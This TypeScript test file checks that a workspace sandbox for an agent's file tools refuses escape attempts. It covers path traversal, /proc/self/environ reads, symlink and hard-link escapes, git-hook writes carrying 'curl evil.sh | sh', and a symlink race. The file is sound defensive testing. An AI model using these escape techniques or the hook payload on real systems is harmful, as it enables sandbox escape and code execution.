import { execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { existsSync, linkSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { failure, tempHome } from "../../test/helpers.js";
import { type AuditEntry, SandboxedFileSystem } from "./index.js";

const SECRET = "TOP-SECRET-0451";

describe("SandboxedFileSystem against attacks", () => {
  let base: string;
  let cleanup: () => void;
  let ws: string;
  let outside: string;
  let audit: AuditEntry[];
  let fs: SandboxedFileSystem;

  beforeEach(async () => {
    ({ home: base, cleanup } = tempHome());
    ws = join(base, "ws");
    outside = join(base, "outside");
    mkdirSync(join(ws, "notes"), { recursive: true });
    mkdirSync(outside);
    mkdirSync(join(base, "ws-evil"));
    writeFileSync(join(outside, "secret.txt"), SECRET);
    writeFileSync(join(base, "ws-evil", "x.txt"), SECRET);
    writeFileSync(join(ws, "notes", "a.md"), "# hello\nline two\n");
    audit = [];
    fs = await SandboxedFileSystem.create(ws, { audit: (entry) => audit.push(entry) });
  });
  afterEach(() => cleanup());

  /** Every refusal is E_SANDBOX, leaks nothing, and is audited as denied. */
  async function refused(promise: Promise<unknown>, reason: RegExp): Promise<void> {
    const error = await failure(promise);
    expect(error.code).toBe("E_SANDBOX");
    expect(error.message).toMatch(reason);
    expect(error.message).not.toContain(SECRET);
    expect(audit.at(-1)?.allowed).toBe(false);
  }
  const untouched = () => expect(readFileSync(join(outside, "secret.txt"), "utf8")).toBe(SECRET);

  it("reads, writes, lists and searches inside the workspace", async () => {
    expect(await fs.readFile("notes/a.md")).toContain("hello");
    expect(await fs.writeFile("notes/b.md", "new")).toEqual({ created: true, bytes: 3 });
    expect(await fs.writeFile("deep/er/c.txt", "x")).toMatchObject({ created: true });
    expect((await fs.listDirectory("notes")).map((e) => e.name)).toEqual(["a.md", "b.md"]);
    expect((await fs.searchFiles("", ".", "*.md")).matches.map((m) => m.path)).toEqual(["notes/a.md", "notes/b.md"]);
    expect((await fs.searchFiles("line", "notes")).matches).toEqual([
      { path: "notes/a.md", line: 2, text: "line two" },
    ]);
    expect(await fs.readFile(join(ws, "notes/a.md"))).toContain("hello"); // an absolute path inside is fine
    expect(audit.every((a) => a.allowed)).toBe(true);
  });

  it.each([
    ["../outside/secret.txt", /outside the workspace/],
    ["notes/../../outside/secret.txt", /outside the workspace/],
    ["../../../../../../etc/passwd", /outside the workspace/],
    ["../ws-evil/x.txt", /outside the workspace/], // sibling with a shared prefix
  ])("refuses traversal %s", async (path, reason) => {
    await refused(fs.readFile(path), reason);
    await refused(fs.writeFile(path, "pwned"), reason);
    untouched();
  });

  it("refuses absolute paths outside, /proc and special files", async () => {
    await refused(fs.readFile(join(outside, "secret.txt")), /absolute paths outside/);
    await refused(fs.readFile("/proc/self/environ"), /absolute paths outside/);
    await refused(fs.readFile(`${ws}-evil/x.txt`), /absolute paths outside/);
    symlinkSync("/proc/self/environ", join(ws, "env"));
    await refused(fs.readFile("env"), /points outside/);
    execFileSync("mkfifo", [join(ws, "pipe")]);
    await refused(fs.readFile("pipe"), /not a regular file/); // and it did not block
    await expect(SandboxedFileSystem.create("/proc/self")).rejects.toMatchObject({ code: "E_SANDBOX" });
  });

  it("refuses NUL bytes, over-long paths and names", async () => {
    await refused(fs.readFile("notes/a.md\0.txt"), /NUL byte/);
    await refused(fs.writeFile("a".repeat(300), "x"), /longer than 255/);
    await refused(fs.readFile(`${"d/".repeat(2100)}x`), /longer than 4096/);
  });

  it("refuses symlinks out of the workspace in every position", async () => {
    symlinkSync(join(outside, "secret.txt"), join(ws, "final-link"));
    symlinkSync(outside, join(ws, "dir-link"));
    symlinkSync("../../outside", join(ws, "notes", "relative-link"));
    await refused(fs.readFile("final-link"), /points outside/);
    await refused(fs.writeFile("final-link", "pwned"), /symbolic link, and writes never follow/);
    await refused(fs.readFile("dir-link/secret.txt"), /points outside/);
    await refused(fs.writeFile("dir-link/new.txt", "pwned"), /points outside/);
    await refused(fs.listDirectory("dir-link"), /points outside/);
    await refused(fs.searchFiles("SECRET", "dir-link"), /points outside/);
    await refused(fs.readFile("notes/relative-link/secret.txt"), /points outside/);
    await refused(fs.moveFile("notes/a.md", "dir-link/stolen.md"), /points outside/);
    await refused(fs.deleteFile("dir-link/secret.txt"), /points outside/);
    expect(existsSync(join(outside, "new.txt"))).toBe(false);
    expect(existsSync(join(outside, "stolen.md"))).toBe(false);
    untouched();
    // A search from the root never follows links, so it finds nothing outside.
    const all = await fs.searchFiles(SECRET, ".");
    expect(all.matches).toEqual([]);
  });

  it("refuses chains of links, including one that leaves and comes back", async () => {
    symlinkSync("b", join(ws, "a"));
    symlinkSync("c", join(ws, "b"));
    symlinkSync("notes/a.md", join(ws, "c"));
    expect(await fs.readFile("a")).toContain("hello"); // a chain that stays inside is fine
    symlinkSync(join(outside, "hop"), join(ws, "leave"));
    symlinkSync(join(ws, "notes", "a.md"), join(outside, "hop"));
    await refused(fs.readFile("leave"), /points outside/);
    symlinkSync("l2", join(ws, "l1"));
    symlinkSync("l1", join(ws, "l2"));
    await refused(fs.readFile("l1"), /too many symbolic links/);
    symlinkSync(".", join(ws, "self"));
    const listing = await fs.searchFiles("", "."); // a loop does not trap the walk
    expect(listing.matches.map((m) => m.path)).toEqual(["notes/a.md"]);
  });

  it("never writes through a dangling symlink", async () => {
    symlinkSync(join(outside, "planted.txt"), join(ws, "dangling-out"));
    symlinkSync("nowhere.txt", join(ws, "dangling-in"));
    await refused(fs.writeFile("dangling-out", "pwned"), /writes never follow/);
    await refused(fs.writeFile("dangling-in", "pwned"), /writes never follow/);
    expect(existsSync(join(outside, "planted.txt"))).toBe(false);
    expect(existsSync(join(ws, "nowhere.txt"))).toBe(false);
  });

  it("does not write or read hard-linked files, and deleting a link keeps its target", async () => {
    linkSync(join(outside, "secret.txt"), join(ws, "hard"));
    await refused(fs.writeFile("hard", "pwned"), /other hard links/);
    await refused(fs.readFile("hard"), /other hard links, which may be files outside/);
    untouched();
    symlinkSync("notes/a.md", join(ws, "soft"));
    await fs.deleteFile("soft");
    expect(existsSync(join(ws, "notes", "a.md"))).toBe(true);
  });

  it.each([
    ".git/hooks/pre-commit",
    ".git/config",
    ".GIT/hooks/pre-commit",
    ".Git/Config",
    "sub/.git/hooks/post-checkout",
    ".g\u200bit/hooks/pre-commit",
    "\uff0egit/hooks/pre-commit", // fullwidth full stop folds to "."
    ".git./hooks/pre-commit",
    ".hob/anything",
  ])("protects %j from writes, moves and deletes", async (path) => {
    await refused(fs.writeFile(path, "curl evil.sh | sh"), /protected/);
    await refused(fs.moveFile("notes/a.md", path), /protected/);
  });

  it("keeps hob's own files out of reach when the workspace contains HOB_HOME", async () => {
    const hob = await SandboxedFileSystem.create(base, {
      hobPaths: [join(base, "hob.yaml"), join(base, "hob.db"), join(base, "config")],
      audit: (entry) => audit.push(entry),
    });
    writeFileSync(join(base, "hob.yaml"), "anthropic:\n  api_key: sk-ant-secret\n");
    await refused(hob.readFile("hob.yaml"), /hob's own configuration/);
    await refused(hob.writeFile("hob.db", "x"), /hob's own/);
    await refused(hob.writeFile("config/litellm.yaml", "x"), /hob's own/);
    expect((await hob.listDirectory(".")).map((e) => e.name)).not.toContain("hob.yaml");
  });

  it("cannot be raced: swapping a directory for a symlink during reads never leaks", async () => {
    mkdirSync(join(ws, "swap"));
    writeFileSync(join(ws, "swap", "secret.txt"), "harmless");
    // A child process keeps swapping ws/swap between the real directory and a link outside.
    const racer = spawn(
      "bash",
      [
        "-c",
        'cd "$1"; end=$((SECONDS+3)); while [ $SECONDS -lt $end ]; do mv swap swap.real; ln -s "$2" swap; rm swap; mv swap.real swap; done',
        "_",
        ws,
        outside,
      ],
      { stdio: "ignore", detached: true }, // its own process group, so its mv/ln children die with it
    );
    const racerExited = once(racer, "exit");
    let leaked = 0;
    let refusedCount = 0;
    let served = 0;
    const started = Date.now();
    while (Date.now() - started < 1500) {
      try {
        const text = await fs.readFile("swap/secret.txt");
        if (text.includes(SECRET)) leaked++;
        else served++;
      } catch (error) {
        if ((error as { code?: string }).code === "E_SANDBOX") refusedCount++;
      }
    }
    process.kill(-(racer.pid as number), "SIGKILL");
    await racerExited;
    expect(leaked).toBe(0);
    expect(served + refusedCount).toBeGreaterThan(100);
  });
});
